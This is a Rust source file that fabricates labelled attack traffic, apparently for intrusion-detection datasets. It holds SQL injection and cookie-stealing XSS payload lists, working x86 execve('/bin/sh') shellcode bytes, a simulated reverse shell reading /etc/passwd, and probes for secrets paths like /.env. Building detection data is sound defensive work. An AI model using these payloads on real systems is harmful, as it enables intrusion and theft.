//! Attack traffic, one function per class, each with randomized rates, sizes, counts and
//! timing. The four classes with no real capture anywhere (Analysis, Fuzzers, Generic,
//! Shellcode) follow the UNSW-NB15 descriptions of them; see the crate documentation.

use std::net::Ipv4Addr;
use weir_wire::Class;

use crate::net::{Capture, Tcp, ACK, RST, SYN};
use crate::normal::{
    dns_message, html, http_request, http_response, ssh_kex, ssh_packet, tls_record, user_agent,
};
use crate::{Net, SECOND};

fn gap(cap: &mut Capture, per_second: f64) -> i64 {
    (cap.rng.exp(1.0 / per_second) * SECOND as f64) as i64
}

/// TCP port scan of one victim: SYN (half-open) or connect scan over a random port set; closed
/// ports answer RST, open ones SYN/ACK, a filtered host nothing.
pub fn port_scan(cap: &mut Capture, net: &Net, t0: i64) {
    let (attacker, victim) = (net.attacker(cap), net.lan(cap));
    let n = cap.rng.range(300, 3000);
    let rate = cap.rng.lognormal(800.0, 1.0).clamp(20.0, 20_000.0);
    let connect = cap.rng.chance(0.3);
    let filtered = cap.rng.chance(0.15);
    let sport = cap.port();
    let base = cap.rng.range(1, 60000) as u16;
    let mut t = t0;
    for i in 0..n {
        let port = if cap.rng.chance(0.5) {
            (base as u64 + i) as u16 % 65535 + 1
        } else {
            cap.rng.range(1, 65535) as u16
        };
        let open = [22u16, 80, 443, 3389, 445].contains(&port) || cap.rng.chance(0.003);
        let sp = if connect { cap.port() } else { sport };
        cap.label(attacker, sp, victim, port, 6, Class::PortScan);
        let seq = cap.rng.next_u32();
        cap.tcp(t, attacker, sp, victim, port, seq, 0, SYN, 1024, &[]);
        let rt = t + 300_000 + cap.rng.below(2_000_000) as i64;
        if filtered {
        } else if open {
            let sseq = cap.rng.next_u32();
            cap.tcp(
                rt,
                victim,
                port,
                attacker,
                sp,
                sseq,
                seq.wrapping_add(1),
                SYN | ACK,
                65160,
                &[],
            );
            if connect {
                cap.tcp(
                    rt + 100_000,
                    attacker,
                    sp,
                    victim,
                    port,
                    seq.wrapping_add(1),
                    sseq.wrapping_add(1),
                    ACK,
                    1024,
                    &[],
                );
            }
            cap.tcp(
                rt + 200_000,
                attacker,
                sp,
                victim,
                port,
                seq.wrapping_add(1),
                0,
                RST,
                0,
                &[],
            );
        } else {
            cap.tcp(
                rt,
                victim,
                port,
                attacker,
                sp,
                0,
                seq.wrapping_add(1),
                RST | ACK,
                0,
                &[],
            );
        }
        t += gap(cap, rate);
    }
}

/// Host discovery across a /24: ICMP echo sweep, or a TCP SYN sweep of one port, or UDP probes;
/// live hosts answer.
pub fn sweep(cap: &mut Capture, net: &Net, t0: i64) {
    let attacker = net.lan(cap);
    let hosts = cap.rng.range(16, 254);
    let rate = cap.rng.lognormal(40.0, 1.0).clamp(2.0, 2000.0);
    let kind = cap.rng.below(3);
    let port = cap.rng.pick(&[22u16, 80, 443, 445, 3389, 161]);
    let live = cap.rng.unit() * 0.5;
    let mut t = t0;
    let o = net.prefix;
    for h in 1..=hosts {
        let target = Ipv4Addr::new(o[0], o[1], o[2], h as u8);
        if target == attacker {
            continue;
        }
        let up = cap.rng.chance(live);
        match kind {
            0 => {
                let id = cap.rng.next_u32() as u16;
                cap.label(attacker, 0, target, 0, 1, Class::Reconnaissance);
                cap.icmp(t, attacker, target, 8, 0, id, 1, &[0; 32]);
                if up {
                    cap.icmp(t + 400_000, target, attacker, 0, 0, id, 1, &[0; 32]);
                }
            }
            1 => {
                let sp = cap.port();
                cap.label(attacker, sp, target, port, 6, Class::Reconnaissance);
                let seq = cap.rng.next_u32();
                cap.tcp(t, attacker, sp, target, port, seq, 0, SYN, 1024, &[]);
                if up {
                    cap.tcp(
                        t + 500_000,
                        target,
                        port,
                        attacker,
                        sp,
                        0,
                        seq.wrapping_add(1),
                        RST | ACK,
                        0,
                        &[],
                    );
                }
            }
            _ => {
                let sp = cap.port();
                cap.label(attacker, sp, target, 161, 17, Class::Reconnaissance);
                let probe = b"\x30\x26\x02\x01\x01\x04\x06public\xa0\x19\x02\x04\x13\x37\x00\x01\x02\x01\x00\x02\x01\x00\x30\x0b\x30\x09\x06\x05\x2b\x06\x01\x02\x01\x05\x00";
                cap.udp(t, attacker, sp, target, 161, probe);
                if up {
                    // Port unreachable: an ICMP flow of its own, part of the same probe.
                    cap.label(target, 0, attacker, 0, 1, Class::Reconnaissance);
                    cap.icmp(t + 400_000, target, attacker, 3, 3, 0, 0, &[0; 28]);
                }
            }
        }
        t += gap(cap, rate);
    }
}

/// A flood from one host: UDP to random ports, ICMP echo, or TCP SYN to one port.
pub fn flood(cap: &mut Capture, net: &Net, t0: i64) {
    let (attacker, victim) = (net.attacker(cap), net.lan(cap));
    let n = cap.rng.range(1000, 5000);
    let rate = cap.rng.lognormal(3000.0, 0.8).clamp(200.0, 100_000.0);
    let size = cap.rng.range(16, 1400) as usize;
    let kind = cap.rng.below(3);
    let payload = cap.rng.bytes(size);
    let port = cap.rng.pick(&[80u16, 443, 53, 22]);
    let mut t = t0;
    let icmp_id = cap.rng.next_u32() as u16;
    if kind == 1 {
        cap.label(attacker, 0, victim, 0, 1, Class::DoS);
    }
    for i in 0..n {
        match kind {
            0 => {
                let (sp, dp) = (cap.port(), cap.rng.range(1, 65535) as u16);
                cap.label(attacker, sp, victim, dp, 17, Class::DoS);
                cap.udp(t, attacker, sp, victim, dp, &payload);
            }
            1 => cap.icmp(t, attacker, victim, 8, 0, icmp_id, i as u16, &payload),
            _ => {
                let sp = cap.port();
                cap.label(attacker, sp, victim, port, 6, Class::DoS);
                let seq = cap.rng.next_u32();
                cap.tcp(t, attacker, sp, victim, port, seq, 0, SYN, 512, &[]);
                if cap.rng.chance(0.6) {
                    cap.tcp(
                        t + 200_000,
                        victim,
                        port,
                        attacker,
                        sp,
                        7,
                        seq.wrapping_add(1),
                        SYN | ACK,
                        65160,
                        &[],
                    );
                }
            }
        }
        t += gap(cap, rate);
    }
}

/// Many sources against one victim: an HTTP GET flood, a SYN flood, a UDP flood, or DNS
/// answers reflected from open resolvers.
pub fn ddos(cap: &mut Capture, net: &Net, t0: i64) {
    let victim = net.lan(cap);
    let sources: Vec<Ipv4Addr> = (0..cap.rng.range(40, 600))
        .map(|_| net.public(cap))
        .collect();
    let n = cap.rng.range(1500, 5000);
    let rate = cap.rng.lognormal(2000.0, 0.8).clamp(200.0, 50_000.0);
    let kind = cap.rng.below(4);
    let mut t = t0;
    let payload = cap.rng.bytes_in(32, 1200);
    let host = format!("{}", victim);
    for _ in 0..n {
        let src = cap.rng.pick(&sources);
        match kind {
            0 => {
                let mut c = Tcp::open(cap, src, victim, 80, t, 2_000_000, Class::DDoS);
                let rq = http_request(cap, "GET", &host, "/", &[]);
                let rs = http_response(cap, "200 OK", 1200);
                c.exchange(cap, &rq, &rs, 5_000_000);
                c.reset(cap, true);
            }
            1 => {
                let sp = cap.port();
                cap.label(src, sp, victim, 80, 6, Class::DDoS);
                let seq = cap.rng.next_u32();
                cap.tcp(t, src, sp, victim, 80, seq, 0, SYN, 512, &[]);
            }
            2 => {
                let (sp, dp) = (cap.port(), cap.rng.range(1, 65535) as u16);
                cap.label(src, sp, victim, dp, 17, Class::DDoS);
                cap.udp(t, src, sp, victim, dp, &payload);
            }
            _ => {
                // The reflector answers a spoofed query (the attack tool picks a new source port
                // per query): the flow starts at the resolver.
                let vport = cap.rng.range(1024, 65535) as u16;
                cap.label(src, 53, victim, vport, 17, Class::DDoS);
                let mut m = dns_message(
                    cap.rng.next_u32() as u16,
                    "isc.org",
                    Some(Ipv4Addr::new(149, 20, 1, 66)),
                );
                m.extend(cap.rng.bytes_in(1500, 3000));
                m.truncate(1472);
                cap.udp(t, src, 53, victim, vport, &m);
            }
        }
        t += gap(cap, rate);
    }
}

fn random_query(cap: &mut Capture) -> String {
    let mut q = String::new();
    for i in 0..cap.rng.range(1, 4) {
        if i > 0 {
            q.push('&');
        }
        q.push_str(&cap.rng.word_in(3, 10));
        q.push('=');
        q.push_str(&cap.rng.word_in(3, 12));
    }
    q
}

/// HTTP GET flood from one host with unique URLs (HULK): a new connection per request.
pub fn hulk(cap: &mut Capture, net: &Net, t0: i64) {
    let (attacker, victim) = (net.attacker(cap), net.lan(cap));
    let n = cap.rng.range(500, 3000);
    let rate = cap.rng.lognormal(150.0, 0.7).clamp(20.0, 2000.0);
    let mut t = t0;
    for _ in 0..n {
        let mut c = Tcp::open(cap, attacker, victim, 80, t, 1_000_000, Class::DoSHulk);
        let path = format!("/?{}", random_query(cap));
        let rq = http_request(cap, "GET", &victim.to_string(), &path, &[]);
        let n = cap.rng.range(3000, 12000) as usize;
        let rs = http_response(cap, "200 OK", n);
        c.exchange(cap, &rq, &rs, 20_000_000);
        if cap.rng.chance(0.5) {
            c.reset(cap, true);
        } else {
            c.close(cap, true);
        }
        t += gap(cap, rate);
    }
}

/// GoldenEye: keep-alive connections, each with several randomized GETs or POSTs.
pub fn goldeneye(cap: &mut Capture, net: &Net, t0: i64) {
    let (attacker, victim) = (net.attacker(cap), net.lan(cap));
    let conns = cap.rng.range(100, 600);
    let rate = cap.rng.lognormal(30.0, 0.7).clamp(5.0, 300.0);
    let mut t = t0;
    for _ in 0..conns {
        let mut c = Tcp::open(cap, attacker, victim, 80, t, 1_500_000, Class::DoSGoldenEye);
        for _ in 0..cap.rng.range(2, 12) {
            let path = format!("/{}?{}", cap.rng.word(6), random_query(cap));
            let method = if cap.rng.chance(0.3) { "POST" } else { "GET" };
            let body = if method == "POST" {
                random_query(cap).into_bytes()
            } else {
                Vec::new()
            };
            let rq = http_request(cap, method, &victim.to_string(), &path, &body);
            let n = cap.rng.range(500, 9000) as usize;
            let rs = http_response(cap, "200 OK", n);
            c.exchange(cap, &rq, &rs, 30_000_000);
            c.wait(cap.rng.below(2 * SECOND as u64) as i64);
        }
        c.wait(cap.rng.range(5, 20) as i64 * SECOND);
        c.close(cap, false);
        t += gap(cap, rate);
    }
}

/// Slowloris (headers that never end) or SlowHTTPTest (a POST body one byte at a time): many
/// connections held open with a trickle every few seconds.
pub fn slow(cap: &mut Capture, net: &Net, t0: i64, class: impl Into<&'static str>) {
    let class: &'static str = class.into();
    let (attacker, victim) = (net.attacker(cap), net.lan(cap));
    let conns = cap.rng.range(50, 300);
    let every = cap.rng.range(5, 15) as i64 * SECOND;
    let rounds = cap.rng.range(4, 15);
    let body = class == Class::DoSSlowHttpTest.name();
    for _ in 0..conns {
        let t = t0 + cap.rng.below(10 * SECOND as u64) as i64;
        let mut c = Tcp::open(cap, attacker, victim, 80, t, 1_000_000, class);
        let first = if body {
            format!("POST /{} HTTP/1.1\r\nHost: {victim}\r\nUser-Agent: {}\r\nContent-Length: {}\r\nContent-Type: application/x-www-form-urlencoded\r\n\r\n", cap.rng.word(5), user_agent(cap), cap.rng.range(4096, 100_000))
        } else {
            format!("GET /?{} HTTP/1.1\r\nHost: {victim}\r\nUser-Agent: {}\r\nAccept-language: en-US,en,q=0.5\r\n", cap.rng.below(2000), user_agent(cap))
        };
        c.send(cap, true, first.as_bytes());
        for _ in 0..rounds {
            c.wait(every + cap.rng.below(SECOND as u64) as i64);
            let trickle = if body {
                cap.rng.word(1)
            } else {
                format!("X-a: {}\r\n", cap.rng.range(1, 5000))
            };
            c.send(cap, true, trickle.as_bytes());
        }
        if cap.rng.chance(0.5) {
            let rs = http_response(cap, "408 Request Timeout", 200);
            c.send(cap, false, &rs);
        }
        c.close(cap, false);
    }
}

/// SSH password guessing: many short connections, each a key exchange and a few failed
/// password attempts before the server hangs up.
pub fn ssh_patator(cap: &mut Capture, net: &Net, t0: i64) {
    let (attacker, victim) = (net.attacker(cap), net.lan(cap));
    let conns = cap.rng.range(40, 300);
    let rate = cap.rng.lognormal(4.0, 0.7).clamp(0.5, 40.0);
    let mut t = t0;
    for _ in 0..conns {
        let mut c = Tcp::open(cap, attacker, victim, 22, t, 2_000_000, Class::SshPatator);
        let banner: &[u8] = cap.rng.pick(&[
            b"SSH-2.0-paramiko_3.4.0\r\n",
            b"SSH-2.0-libssh_0.9.6\r\n",
            b"SSH-2.0-Go\r\n",
        ]);
        c.exchange(
            cap,
            banner,
            b"SSH-2.0-OpenSSH_8.9p1 Ubuntu-3ubuntu0.6\r\n",
            2_000_000,
        );
        ssh_kex(cap, &mut c);
        for _ in 0..cap.rng.range(1, 3) {
            let n = cap.rng.range(80, 112) as usize;
            let try_ = ssh_packet(cap, n);
            let no = ssh_packet(cap, 52);
            let think = cap.rng.range(1500, 3000) as i64 * 1_000_000;
            c.exchange(cap, &try_, &no, think);
        }
        c.close(cap, false);
        t += gap(cap, rate);
    }
}

/// FTP password guessing: USER/PASS pairs answered 530, several per connection.
pub fn ftp_patator(cap: &mut Capture, net: &Net, t0: i64) {
    let (attacker, victim) = (net.attacker(cap), net.lan(cap));
    let conns = cap.rng.range(30, 200);
    let rate = cap.rng.lognormal(5.0, 0.7).clamp(0.5, 50.0);
    let user = cap.rng.pick(&["admin", "root", "ftp", "user", "test"]);
    let mut t = t0;
    for _ in 0..conns {
        let mut c = Tcp::open(cap, attacker, victim, 21, t, 1_000_000, Class::FtpPatator);
        c.wait(5_000_000);
        c.send(cap, false, b"220 (vsFTPd 3.0.3)\r\n");
        for _ in 0..cap.rng.range(1, 3) {
            c.exchange(
                cap,
                format!("USER {user}\r\n").as_bytes(),
                b"331 Please specify the password.\r\n",
                1_000_000,
            );
            let pw = cap.rng.word_in(4, 12);
            let think = cap.rng.range(500, 3000) as i64 * 1_000_000;
            c.exchange(
                cap,
                format!("PASS {pw}\r\n").as_bytes(),
                b"530 Login incorrect.\r\n",
                think,
            );
        }
        c.exchange(cap, b"QUIT\r\n", b"221 Goodbye.\r\n", 1_000_000);
        c.close(cap, false);
        t += gap(cap, rate);
    }
}

/// A web client sending one kind of request many times, each on a new or a kept-alive
/// connection.
#[allow(clippy::too_many_arguments)]
fn web_requests(
    cap: &mut Capture,
    net: &Net,
    t0: i64,
    class: impl Into<&'static str>,
    n: u64,
    rate: f64,
    mut request: impl FnMut(&mut Capture, &str) -> Vec<u8>,
    status: &str,
) {
    let class: &'static str = class.into();
    let (attacker, victim) = (net.attacker(cap), net.lan(cap));
    let per_conn = if cap.rng.chance(0.5) {
        1
    } else {
        cap.rng.range(2, 20)
    };
    let host = victim.to_string();
    let mut t = t0;
    let mut left = n;
    while left > 0 {
        let port = cap.rng.pick(&[80u16, 80, 8080]);
        let mut c = Tcp::open(cap, attacker, victim, port, t, 1_500_000, class);
        for _ in 0..per_conn.min(left) {
            let rq = request(cap, &host);
            let n = cap.rng.range(400, 6000) as usize;
            let rs = http_response(cap, status, n);
            let think = cap.rng.range(5, 80) as i64 * 1_000_000;
            c.exchange(cap, &rq, &rs, think);
            c.wait(gap(cap, rate));
            left -= 1;
        }
        c.close(cap, true);
        t = c.t;
    }
}

/// Login form brute force.
pub fn web_brute_force(cap: &mut Capture, net: &Net, t0: i64) {
    let n = cap.rng.range(50, 400);
    let rate = cap.rng.lognormal(5.0, 0.8).clamp(0.5, 60.0);
    let path = cap.rng.pick(&[
        "/login.php",
        "/wp-login.php",
        "/user/login",
        "/dvwa/vulnerabilities/brute/",
    ]);
    web_requests(
        cap,
        net,
        t0,
        Class::WebBruteForce,
        n,
        rate,
        |cap, host| {
            let body = format!(
                "username=admin&password={}&Login=Login",
                cap.rng.word_in(5, 12)
            );
            http_request(cap, "POST", host, path, body.as_bytes())
        },
        "200 OK",
    );
}

const SQLI: &[&str] = &[
    "1' OR '1'='1",
    "1 UNION SELECT NULL,username,password FROM users--",
    "1' AND SLEEP(5)-- -",
    "1) AND 1=CONVERT(int,(SELECT @@version))--",
    "1' UNION ALL SELECT table_name,NULL FROM information_schema.tables#",
    "1; DROP TABLE users--",
    "admin'--",
    "1' AND extractvalue(1,concat(0x7e,version()))-- -",
    "-1 UNION SELECT 1,2,group_concat(column_name) FROM information_schema.columns",
    "1' ORDER BY 7-- -",
];

fn encode(cap: &mut Capture, s: &str) -> String {
    match cap.rng.below(3) {
        0 => s.replace(' ', "+"),
        1 => s
            .replace(' ', "%20")
            .replace('\'', "%27")
            .replace('=', "%3D"),
        _ => s.replace(' ', "/**/"),
    }
}

/// SQL injection probing (sqlmap-like): many requests that vary one parameter.
pub fn sqli(cap: &mut Capture, net: &Net, t0: i64) {
    if cap.rng.chance(0.35) {
        return crate::busy::mixed_probe(cap, net, t0, Class::WebSqlInjection, |cap| {
            let p = cap.rng.pick(SQLI);
            let p = encode(cap, p);
            let (page, param) =
                cap.rng
                    .pick(&[("/item.php", "id"), ("/", "q"), ("/api/items", "id")]);
            format!("{page}?{param}={p}")
        });
    }
    let n = cap.rng.range(20, 400);
    let rate = cap.rng.lognormal(8.0, 0.8).clamp(0.5, 100.0);
    let (page, param) = cap.rng.pick(&[
        ("/item.php", "id"),
        ("/products", "cat"),
        ("/dvwa/vulnerabilities/sqli/", "id"),
        ("/search", "q"),
    ]);
    web_requests(
        cap,
        net,
        t0,
        Class::WebSqlInjection,
        n,
        rate,
        |cap, host| {
            let p = cap.rng.pick(SQLI);
            let p = encode(cap, p);
            http_request(
                cap,
                "GET",
                host,
                &format!("{page}?{param}={p}&Submit=Submit"),
                &[],
            )
        },
        "200 OK",
    );
}

const XSS: &[&str] = &[
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(document.cookie)>",
    "\"><script>alert('xss')</script>",
    "<svg/onload=alert(1)>",
    "javascript:alert(String.fromCharCode(88,83,83))",
    "<body onload=alert(1)>",
    "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
    "<iframe src=javascript:alert(1)>",
];

/// Cross-site scripting probes, in the query or in a posted comment.
pub fn xss(cap: &mut Capture, net: &Net, t0: i64) {
    if cap.rng.chance(0.35) {
        return crate::busy::mixed_probe(cap, net, t0, Class::WebXss, |cap| {
            let p = cap.rng.pick(XSS);
            format!("/search?q={}", p.replace(' ', "%20"))
        });
    }
    let n = cap.rng.range(10, 300);
    let rate = cap.rng.lognormal(4.0, 0.8).clamp(0.3, 50.0);
    web_requests(
        cap,
        net,
        t0,
        Class::WebXss,
        n,
        rate,
        |cap, host| {
            let p = (cap.rng.pick(XSS)).to_string();
            if cap.rng.chance(0.5) {
                http_request(
                    cap,
                    "GET",
                    host,
                    &format!("/search?q={}", p.replace(' ', "%20")),
                    &[],
                )
            } else {
                let body = format!("name={}&comment={}", cap.rng.word(6), p);
                http_request(cap, "POST", host, "/guestbook", body.as_bytes())
            }
        },
        "200 OK",
    );
}

const SHELLCODE: &[&[u8]] = &[
    // Linux x86 execve("/bin//sh")
    b"\x31\xc0\x50\x68\x2f\x2f\x73\x68\x68\x2f\x62\x69\x6e\x89\xe3\x50\x53\x89\xe1\xb0\x0b\xcd\x80",
    // Linux x86-64 execve("/bin//sh")
    b"\x48\x31\xf6\x56\x48\xbf\x2f\x62\x69\x6e\x2f\x2f\x73\x68\x57\x54\x5f\x6a\x3b\x58\x99\x0f\x05",
    // Windows-style GetPC + decoder stub
    b"\xd9\xee\xd9\x74\x24\xf4\x5b\x31\xc9\xb1\x33\x81\x73\x17\x9e\x2f\xc1\x0b\x83\xeb\xfc\xe2\xf4",
];

/// Shellcode delivered to a service (a sled, the code, encoded bytes and return addresses),
/// sometimes followed by the shell it opens back to the attacker.
pub fn shellcode(cap: &mut Capture, net: &Net, t0: i64) {
    let (attacker, victim) = (net.attacker(cap), net.lan(cap));
    let n = cap.rng.range(3, 40);
    let mut t = t0;
    for _ in 0..n {
        let port = cap.rng.pick(&[21u16, 80, 110, 143, 445, 9999, 8080, 5555]);
        let mut c = Tcp::open(cap, attacker, victim, port, t, 3_000_000, Class::Shellcode);
        let sled_byte = cap.rng.pick(&[0x90u8, 0x90, 0x90, 0x41, 0x4b, 0x97]);
        let mut p: Vec<u8> = match port {
            80 | 8080 => b"GET /".to_vec(),
            21 => b"USER ".to_vec(),
            _ => Vec::new(),
        };
        p.extend(std::iter::repeat_n(
            sled_byte,
            cap.rng.range(64, 900) as usize,
        ));
        p.extend_from_slice(cap.rng.pick(SHELLCODE));
        p.extend(cap.rng.bytes_in(0, 300));
        let ret = cap.rng.bytes(4);
        for _ in 0..cap.rng.range(4, 40) {
            p.extend_from_slice(&ret);
        }
        if port == 80 || port == 8080 {
            p.extend_from_slice(b" HTTP/1.0\r\n\r\n");
        }
        c.send(cap, true, &p);
        c.wait(cap.rng.range(50, 2000) as i64 * 1_000_000);
        if cap.rng.chance(0.4) {
            c.reset(cap, false);
        } else {
            c.close(cap, true);
        }
        if cap.rng.chance(0.4) {
            let lport = cap.rng.pick(&[4444u16, 1337, 31337, 5555]);
            let mut s = Tcp::open(
                cap,
                victim,
                attacker,
                lport,
                c.t + 500_000_000,
                3_000_000,
                Class::Shellcode,
            );
            for cmd in ["id\n", "uname -a\n", "cat /etc/passwd\n", "whoami\n"]
                .iter()
                .take(cap.rng.range(1, 4) as usize)
            {
                let out = format!(
                    "uid=0(root) gid=0(root) groups=0(root)\n{}\n",
                    cap.rng.word(40)
                );
                s.exchange(cap, out.as_bytes(), cmd.as_bytes(), 2 * SECOND);
            }
            s.close(cap, false);
        }
        t += cap.rng.range(2, 60) as i64 * SECOND;
    }
}

/// Fuzzing a service: malformed, oversized or random inputs, many connections (or UDP
/// datagrams), answered with errors or resets.
pub fn fuzzers(cap: &mut Capture, net: &Net, t0: i64) {
    let (attacker, victim) = (net.attacker(cap), net.lan(cap));
    let n = cap.rng.range(100, 1500);
    let rate = cap.rng.lognormal(20.0, 1.0).clamp(1.0, 500.0);
    let udp = cap.rng.chance(0.3);
    let port = if udp {
        cap.rng.pick(&[53u16, 161, 69, 5060])
    } else {
        cap.rng.pick(&[80u16, 21, 25, 110, 8080, 9999])
    };
    let mut t = t0;
    for _ in 0..n {
        let input: Vec<u8> = match cap.rng.below(5) {
            0 => cap.rng.bytes_in(1, 4000),
            1 => vec![b'A'; cap.rng.range(256, 9000) as usize],
            2 => "%n%s%x"
                .repeat(cap.rng.range(10, 300) as usize)
                .into_bytes(),
            3 => {
                let mut v = b"GET /".to_vec();
                v.extend(cap.rng.bytes_in(10, 2000));
                v.extend_from_slice(b" HTTP/1.1\r\n\r\n");
                v
            }
            _ => {
                let n = cap.rng.range(20, 400) as usize;
                let mut v = html(cap, n);
                for _ in 0..cap.rng.range(1, 30) {
                    let i = cap.rng.below(v.len() as u64) as usize;
                    v[i] = cap.rng.next_u32() as u8;
                }
                v
            }
        };
        if udp {
            let sp = cap.port();
            cap.label(attacker, sp, victim, port, 17, Class::Fuzzers);
            cap.udp(t, attacker, sp, victim, port, &input);
            if cap.rng.chance(0.3) {
                cap.udp(
                    t + 1_000_000,
                    victim,
                    port,
                    attacker,
                    sp,
                    b"\x00\x05\x00\x04illegal\x00",
                );
            }
        } else {
            let mut c = Tcp::open(cap, attacker, victim, port, t, 1_000_000, Class::Fuzzers);
            c.send(cap, true, &input);
            if cap.rng.chance(0.5) {
                c.send(
                    cap,
                    false,
                    b"HTTP/1.1 400 Bad Request\r\nContent-Length: 0\r\nConnection: close\r\n\r\n",
                );
                c.close(cap, false);
            } else {
                c.reset(cap, false);
            }
        }
        t += gap(cap, rate);
    }
}

/// Analysis (UNSW-NB15: probing and penetration of web applications and services): a
/// scanner walking well-known paths with unusual methods, and banner grabbing on mail and
/// file services.
pub fn analysis(cap: &mut Capture, net: &Net, t0: i64) {
    let (attacker, victim) = (net.attacker(cap), net.lan(cap));
    let n = cap.rng.range(60, 800);
    let rate = cap.rng.lognormal(15.0, 0.8).clamp(1.0, 200.0);
    let paths = [
        "/admin/",
        "/.git/config",
        "/.env",
        "/phpmyadmin/",
        "/server-status",
        "/backup.zip",
        "/cgi-bin/test.cgi",
        "/wp-config.php.bak",
        "/config.inc.php",
        "/robots.txt",
        "/.htaccess",
        "/web.config",
        "/actuator/env",
        "/console",
    ];
    let mut t = t0;
    for i in 0..n {
        if i % 7 == 6 {
            let port = cap.rng.pick(&[21u16, 25, 110, 143, 23, 3306]);
            let mut c = Tcp::open(cap, attacker, victim, port, t, 1_000_000, Class::Analysis);
            let banner = format!("220 {} ESMTP Postfix\r\n", cap.rng.word(8));
            c.send(cap, false, banner.as_bytes());
            c.exchange(
                cap,
                b"HELP\r\n",
                b"502 5.5.2 Error: command not recognized\r\n",
                1_000_000,
            );
            c.close(cap, true);
        } else {
            let mut c = Tcp::open(cap, attacker, victim, 80, t, 1_000_000, Class::Analysis);
            let method = cap
                .rng
                .pick(&["GET", "HEAD", "OPTIONS", "TRACE", "PROPFIND", "GET"]);
            let path = format!(
                "{}{}",
                cap.rng.pick(&paths),
                if cap.rng.chance(0.3) {
                    format!("?{}", cap.rng.word(5))
                } else {
                    String::new()
                }
            );
            let rq = format!("{method} {path} HTTP/1.1\r\nHost: {victim}\r\nUser-Agent: Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:{:06})\r\nConnection: close\r\n\r\n", cap.rng.below(999_999));
            let status = if cap.rng.chance(0.85) {
                "404 Not Found"
            } else {
                "403 Forbidden"
            };
            let n = cap.rng.range(150, 600) as usize;
            let rs = http_response(cap, status, n);
            c.exchange(cap, rq.as_bytes(), &rs, 3_000_000);
            c.close(cap, false);
        }
        t += gap(cap, rate);
    }
}

/// Generic (UNSW-NB15: a technique against block ciphers whatever their structure): a client
/// firing thousands of equal-sized, high-entropy messages at one crypto endpoint and keeping
/// each short reply, the shape UNSW-NB15's Generic records have (short UDP exchanges).
pub fn generic(cap: &mut Capture, net: &Net, t0: i64) {
    let (attacker, victim) = (net.attacker(cap), net.lan(cap));
    let n = cap.rng.range(500, 4000);
    let rate = cap.rng.lognormal(400.0, 0.8).clamp(20.0, 10_000.0);
    let port = cap.rng.pick(&[53u16, 500, 4500, 1194, 51820]);
    let size = cap.rng.range(40, 160) as usize;
    let reply = cap.rng.range(0, 80) as usize;
    let tcp = cap.rng.chance(0.2);
    let mut t = t0;
    for _ in 0..n {
        if tcp {
            let mut c = Tcp::open(cap, attacker, victim, 443, t, 1_000_000, Class::Generic);
            let q = tls_record(cap, 0x17, size);
            let r = tls_record(cap, 0x15, 2);
            c.exchange(cap, &q, &r, 1_000_000);
            c.reset(cap, true);
        } else {
            let sp = cap.port();
            cap.label(attacker, sp, victim, port, 17, Class::Generic);
            let q = cap.rng.bytes(size);
            cap.udp(t, attacker, sp, victim, port, &q);
            if reply > 0 {
                let r = cap.rng.bytes(reply);
                cap.udp(t + 300_000, victim, port, attacker, sp, &r);
            }
        }
        t += gap(cap, rate);
    }
}

/// A bot beaconing to its C2 server over HTTP: periodic small POSTs with jitter, now and then
/// a task in the reply and a result posted back.
pub fn bot(cap: &mut Capture, net: &Net, t0: i64) {
    let (bot, c2) = (net.lan(cap), net.public(cap));
    let beacons = cap.rng.range(20, 200);
    let period = cap.rng.range(2, 60) as f64;
    let jitter = cap.rng.unit() * 0.3;
    let port = cap.rng.pick(&[80u16, 8080, 8888, 443, 5000]);
    let path = format!(
        "/{}",
        cap.rng
            .pick(&["beacon", "api/v1/checkin", "gate.php", "submit", "ws"])
    );
    let mut t = t0;
    let mut c = None::<Tcp>;
    for _ in 0..beacons {
        let keep = cap.rng.chance(0.5);
        let mut conn = match c.take() {
            Some(x) => x,
            None => Tcp::open(cap, bot, c2, port, t, 60_000_000, Class::Bot),
        };
        conn.t = conn.t.max(t);
        let body = cap.rng.word_in(40, 200);
        let rq = http_request(cap, "POST", &c2.to_string(), &path, body.as_bytes());
        let task = if cap.rng.chance(0.1) {
            cap.rng.word_in(100, 2000)
        } else {
            String::new()
        };
        let rs = format!("HTTP/1.1 200 OK\r\nContent-Type: application/octet-stream\r\nContent-Length: {}\r\n\r\n{task}", task.len());
        conn.exchange(cap, &rq, rs.as_bytes(), 50_000_000);
        if keep {
            c = Some(conn);
        } else {
            conn.close(cap, true);
        }
        t += ((period * (1.0 + jitter * (2.0 * cap.rng.unit() - 1.0))) * SECOND as f64) as i64;
    }
    if let Some(mut conn) = c {
        conn.close(cap, true);
    }
}
